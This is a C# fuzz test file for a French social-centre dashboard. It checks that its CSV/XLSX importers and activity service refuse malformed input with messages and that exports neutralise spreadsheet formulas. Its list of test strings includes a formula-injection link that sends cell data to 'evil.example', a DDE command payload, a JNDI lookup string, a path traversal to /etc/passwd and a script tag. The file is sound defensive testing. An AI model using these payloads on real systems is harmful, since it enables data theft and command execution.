using System.Text;
using CscDashboard.Core.Activities;
using CscDashboard.Core.Common;
using CscDashboard.Core.Network;
using CscDashboard.Core.Network.Import;
using CscDashboard.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using MiniExcelLibs;

namespace CscDashboard.Tests.Core;

/// <summary>
/// Thousands of generated malformed inputs (fixed seeds: a failure replays) against the network
/// importers and the activity service. Each input is either refused with a French message
/// (<see cref="ValidationFailedException"/>, <see cref="ScopeViolationException"/>,
/// <see cref="NotFoundException"/>) or stored; no other exception escapes, and what is stored comes
/// back out of the exports with every formula neutralised.
/// </summary>
public sealed class FuzzTests
{
    private static readonly string[] Nasty =
    [
        "", " ", "   \t ", "\0", "a\0b", "\u0001\u0002\u001b[31m", "\r", "\n", "ligne 1\r\nligne 2", "\"", "\"\"\"", "\"non fermé", ";", ",;,;",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")", "=1+1", "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0",
        "'=déjà neutralisé", "é", "🙂👍🏽", "\u202Eevil\u202C", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "../../etc/passwd",
        "NaN", "Infinity", "1e309", "-1", "0", "99999999999999999999", "12,5", "12.5", "0x1F",
        "31/02/2023", "00/00/0000", "99/99/9999", "01/01/0001", "31/12/9999", "2023-13-01", "29/02/2023", "15/01/2022", "hier",
        "Oui", "non", "peut-être", "ART", "art", "Lille & Weppes", "ZZZ", "Engagé", "Candidat", "Ctn", "Médiateur", "Commune",
        new string('x', 300), new string('é', 5_000), new string('=', 70_000),
    ];

    [Fact]
    public async Task Malformed_import_files_are_refused_with_messages_or_stored_and_exported_safely()
    {
        await using var ctx = await CoreTestContext.CreateAsync();
        ctx.ActAs(await ctx.AddUserAsync("lead-fuzz@test.csc", Roles.ProjectLead));
        var import = ctx.Get<NetworkImportService>();
        var random = new Random(20231);
        var (refused, stored) = (0, 0);

        for (var i = 0; i < 1_000; i++)
        {
            var kind = (ImportKind)(i % 3);
            var (name, content) = Generate(random, kind);
            try
            {
                var preview = await import.PreviewAsync(new MemoryStream(content), name, kind);
                Assert.All(preview.Errors, e => Assert.False(string.IsNullOrWhiteSpace(e.Message)));
                stored += await import.ImportAsync(new MemoryStream(content), name, kind);
                Assert.True(preview.CanImport, $"file {i} ({name}) was imported although its preview had errors");
            }
            catch (ValidationFailedException ex)
            {
                Assert.NotEmpty(ex.Errors);
                Assert.All(ex.Errors.SelectMany(e => e.Value), m => Assert.False(string.IsNullOrWhiteSpace(m)));
                refused++;
            }
        }

        Assert.True(refused > 600, $"{refused} refused");
        Assert.True(stored > 20, $"{stored} rows stored: the generator must also produce acceptable files");
        var export = ctx.Get<NetworkExportService>();
        foreach (var file in new[]
                 {
                     await export.ExportCentresAsync(new CentreFilter(), ExportFormat.Csv), await export.ExportCentresAsync(new CentreFilter(), ExportFormat.Xlsx),
                     await export.ExportMembersAsync(new MemberFilter(), ExportFormat.Csv), await export.ExportMembersAsync(new MemberFilter(), ExportFormat.Xlsx),
                     await export.ExportPartnersAsync(new PartnerFilter(), ExportFormat.Csv), await export.ExportPartnersAsync(new PartnerFilter(), ExportFormat.Xlsx),
                 })
        {
            var cells = Cells(file).ToList();
            Assert.True(cells.Count > 10, $"{file.FileName}: {cells.Count} cells");
            Assert.All(cells, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"{file.FileName}: formula left active: {cell[..Math.Min(40, cell.Length)]}"));
        }
    }

    [Fact]
    public async Task Malformed_activities_are_refused_with_messages_or_stored_within_the_rules()
    {
        await using var ctx = await CoreTestContext.CreateAsync();
        var art = await ctx.TerritoryIdAsync("ART");
        var lil = await ctx.TerritoryIdAsync("LIL");
        var centre = await ActivityTestData.AddCentreAsync(ctx, "ART", "Centre social du Fuzz");
        ctx.ActAs(await ctx.AddUserAsync("coord-fuzz@test.csc", Roles.Coordinator, "ART"));
        var activities = ctx.Get<ActivityService>();
        var random = new Random(4242);
        int[] territoryIds = [art, art, art, lil, 0, -1, 999_999];
        int[] ids = [centre, centre, 0, -7, 123_456, int.MaxValue];
        var dates = new[] { DateOnly.MinValue, DateOnly.MaxValue, new DateOnly(2021, 8, 31), new DateOnly(2021, 9, 1), new DateOnly(2023, 3, 15), new DateOnly(2023, 3, 23), new DateOnly(2024, 1, 1) };
        int[] numbers = [int.MinValue, -1, 0, 1, 4, 5, 30, 720, 721, 10_000, 10_001, int.MaxValue];
        var (refused, stored) = (0, 0);

        for (var i = 0; i < 2_000; i++)
        {
            var input = new ActivityInput
            {
                Date = Pick(random, dates),
                StartTime = random.Next(3) == 0 ? null : new TimeOnly(random.Next(24), random.Next(60)),
                DurationMinutes = Pick(random, numbers),
                TerritoryId = Pick(random, territoryIds),
                Type = (ActivityType)random.Next(-1, 10),
                Format = (ActivityFormat)random.Next(-1, 10),
                Place = (ActivityPlace)random.Next(-1, 5),
                Title = Pick(random, Nasty) + (random.Next(2) == 0 ? " Atelier numérique" : ""),
                Notes = random.Next(2) == 0 ? null : Pick(random, Nasty),
                FollowUp = random.Next(3) == 0 ? Pick(random, Nasty) : null,
                InhabitantCount = Pick(random, numbers),
                ProfessionalCount = random.Next(2) == 0 ? 0 : Pick(random, numbers),
                VolunteerCount = random.Next(2) == 0 ? 0 : Pick(random, numbers),
                PartnerCount = random.Next(2) == 0 ? 0 : Pick(random, numbers),
                IsHighlight = random.Next(2) == 0,
                CentreIds = Enumerable.Range(0, random.Next(3)).Select(_ => Pick(random, ids)).ToList(),
                WorkstreamIds = Enumerable.Range(0, random.Next(3)).Select(_ => random.Next(-1, 5)).ToList(),
                PartnerIds = Enumerable.Range(0, random.Next(2)).Select(_ => Pick(random, ids)).ToList(),
            };
            try
            {
                await activities.CreateAsync(input);
                stored++;
            }
            catch (Exception ex) when (ex is ValidationFailedException or ScopeViolationException or NotFoundException)
            {
                var messages = ex is ValidationFailedException v ? v.Errors.SelectMany(e => e.Value).ToList() : [ex.Message];
                Assert.All(messages, m => Assert.False(string.IsNullOrWhiteSpace(m)));
                refused++;
            }
        }

        Assert.True(refused > 1_500, $"{refused} refused");
        Assert.True(stored > 0, "the generator must also produce acceptable activities");
        await using var db = ctx.CreateDb();
        var kept = await db.Activities.AsNoTracking().Include(a => a.Centres).ToListAsync();
        Assert.Equal(stored, kept.Count);
        Assert.All(kept, a =>
        {
            Assert.Equal(art, a.TerritoryId);
            Assert.InRange(a.DurationMinutes, 5, 720);
            Assert.InRange(a.InhabitantCount, 0, 10_000);
            Assert.True(Enum.IsDefined(a.Type) && Enum.IsDefined(a.Format) && Enum.IsDefined(a.Place));
            Assert.False(string.IsNullOrWhiteSpace(a.Title));
            Assert.DoesNotContain(a.Title, c => char.IsControl(c));
            Assert.All(a.Centres, c => Assert.Equal(centre, c.CentreId));
        });
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];

    /// <summary>A CSV (mostly) or XLSX file with the kind's headers, some missing, reordered or doubled, and rows of nasty values.</summary>
    private static (string Name, byte[] Content) Generate(Random random, ImportKind kind)
    {
        var headers = NetworkColumns.Headers(kind).ToList();
        switch (random.Next(20))
        {
            case 0:
                return ("aleatoire.csv", RandomBytes(random));
            case 1:
                return ("faux.xlsx", RandomBytes(random));
            case 2:
                return ("vide.csv", []);
        }
        // One file in four is clean (every column, plausible values) so that the storing path is fuzzed too.
        var clean = random.Next(4) == 0;
        var columns = headers.Where(_ => clean || random.Next(8) != 0).OrderBy(_ => random.Next(4)).ToList();
        if (!clean && random.Next(10) == 0)
        {
            columns.Add(Pick(random, headers));
        }
        var rows = Enumerable.Range(0, random.Next(1, 6)).Select(_ => columns.Select(c => Value(random, kind, c, clean)).ToList()).ToList();
        if (random.Next(6) == 0)
        {
            var table = rows.Select(r => columns.Select((c, i) => (c, v: r[i])).GroupBy(x => x.c).ToDictionary(g => g.Key, g => (object)g.First().v)).ToList();
            var stream = new MemoryStream();
            stream.SaveAs(table);
            return ("fichier.xlsx", stream.ToArray());
        }
        var separator = random.Next(2) == 0 ? ";" : ",";
        var text = new StringBuilder(string.Join(separator, columns)).Append("\r\n");
        foreach (var row in rows)
        {
            text.Append(string.Join(separator, row.Select(v => random.Next(3) == 0 ? $"\"{v.Replace("\"", "\"\"", StringComparison.Ordinal)}\"" : v))).Append("\r\n");
        }
        return ("fichier.csv", Encoding.UTF8.GetBytes(text.ToString()));
    }

    /// <summary>A plausible value for the column, or (in a file that is not clean) a nasty one half of the time.</summary>
    private static readonly string[] Territories = ["ART", "LIL", "Cambrésis"];
    private static readonly string[] Places = ["Arras", "=HYPERLINK(\"http://x\")", "-Lens", "@Douai", "+Lille"];

    private static string Value(Random random, ImportKind kind, string column, bool clean)
    {
        if (!clean && random.Next(2) == 0)
        {
            return Pick(random, Nasty);
        }
        return column switch
        {
            NetworkColumns.Territory => Pick(random, Territories),
            NetworkColumns.Commune or NetworkColumns.Address or NetworkColumns.ContactName => Pick(random, Places),
            NetworkColumns.Postcode => random.Next(59000, 62999).ToString(System.Globalization.CultureInfo.InvariantCulture),
            NetworkColumns.Status => "Engagé",
            NetworkColumns.EngagedOn or NetworkColumns.ActiveFrom or NetworkColumns.CandidateSince => "01/10/2021",
            NetworkColumns.WithdrawnOn or NetworkColumns.ActiveTo => "",
            NetworkColumns.Role => "CTN",
            NetworkColumns.Kind => "Commune",
            NetworkColumns.Email or NetworkColumns.ContactEmail => $"p{random.Next(1_000_000)}@exemple.fr",
            NetworkColumns.Centre or NetworkColumns.Assignment or NetworkColumns.Percent or NetworkColumns.AnnualGrossCost => "",
            NetworkColumns.HostCentre or NetworkColumns.CommitteeMember => "Non",
            _ => (kind == ImportKind.Centres ? "Centre " : "Nom ") + random.Next(1_000_000),
        };
    }

    private static byte[] RandomBytes(Random random)
    {
        var bytes = new byte[random.Next(1, 4_000)];
        random.NextBytes(bytes);
        return bytes;
    }

    /// <summary>Every cell of an exported file, as a spreadsheet would read it (the app's own reader, without un-neutralising).</summary>
    private static IEnumerable<string> Cells(ExportFile file) =>
        TabularReader.Read(file.Content, file.FileName, 1_000_000).SelectMany(line => line.Cells);
}
